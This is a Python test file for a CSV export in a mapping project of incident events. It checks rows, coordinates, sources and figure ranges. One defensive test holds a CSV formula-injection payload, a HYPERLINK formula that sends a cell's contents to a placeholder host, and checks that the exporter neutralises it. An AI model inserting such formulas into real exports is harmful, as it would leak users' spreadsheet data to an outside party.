"""The CSV download (geo.io.csv): one row per event shown, sources and coordinates in cells a spreadsheet
shows as text."""

from __future__ import annotations

import csv
import io

import pytest
from shapely.geometry import Point

from geo.io.csv import to_csv

SEED = "seeds/000_c849781cc78fe4c5.txt"


def test_csv_export_has_one_row_per_shown_event_with_sources_and_coordinates(events):
    shown = events[events["layer"] == "incidents"]
    rows = list(csv.DictReader(io.StringIO(to_csv(shown))))
    assert [r["id"] for r in rows] == list(shown["id"])
    shanghai = next(r for r in rows if r["id"] == "disappearance-shanghai-garment-workers-2022-02")
    point = events.loc["disappearance-shanghai-garment-workers-2022-02"].geometry
    assert Point(float(shanghai["longitude"]), float(shanghai["latitude"])).distance(point) < 1e-6
    assert SEED in shanghai["sources"]
    unlocated = next(r for r in rows if r["id"] == "defection-construction-workers-winter-2022")
    assert unlocated["longitude"] == "" and unlocated["geometry_wkt"] == ""


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_csv_cell_that_would_start_a_spreadsheet_formula_is_written_as_text(events, start):
    frame = events.copy()
    frame.loc[frame.index[0], "title"] = f'{start}HYPERLINK("http://x.example/?"&B3, "open")'
    rows = list(csv.DictReader(io.StringIO(to_csv(frame))))
    assert rows[0]["title"] == f"'{start}HYPERLINK(\"http://x.example/?\"&B3, \"open\")"
    assert rows[1]["title"] == frame["title"].iloc[1]  # ordinary text unchanged


def test_figure_low_and_high_are_the_lowest_and_highest_number_any_source_gives(events):
    with_figures = events[events["figures"].map(bool)]
    rows = list(csv.DictReader(io.StringIO(to_csv(events))))
    assert len(with_figures) and len(with_figures) < len(events)
    for row, figures in zip(rows, events["figures"], strict=True):
        lows = [f["value"] for f in figures or []]
        highs = [f["value"] if f.get("value_max") is None else f["value_max"] for f in figures or []]
        assert (row["figure_low"], row["figure_high"]) == ((str(min(lows)), str(max(highs))) if figures else ("", ""))
